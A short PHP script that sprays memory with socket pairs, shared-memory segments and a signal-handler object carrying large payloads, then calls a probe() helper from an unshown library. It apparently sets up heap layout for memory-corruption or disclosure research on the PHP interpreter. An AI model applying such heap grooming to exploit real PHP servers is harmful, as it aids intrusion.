<?php
// loads: sockets pcntl posix sysvmsg sysvsem sysvshm shmop readline
require __DIR__ . '/lib.php';

class Handler
{
    public string $pay = '';

    public function signal(int $number): void
    {
    }
}

for ($i = 0; $i < 300 * TIMES; $i++) {
    socket_create_pair(AF_UNIX, SOCK_STREAM, 0, $pair);
    $objs[] = [$pair, socket_addrinfo_lookup('127.0.0.1', "$i"), payload($i, 4000)];
}
for ($i = 0; $i < 20 * TIMES; $i++) {
    $objs[] = shmop_open(0, 'n', 0600, 100);
}
$handler = new Handler;
$handler->pay = payload(1, 50000);
pcntl_signal(SIGUSR1, [$handler, 'signal']);
$objs[] = $handler;
unset($pair, $handler);
probe($argv[1], $base);
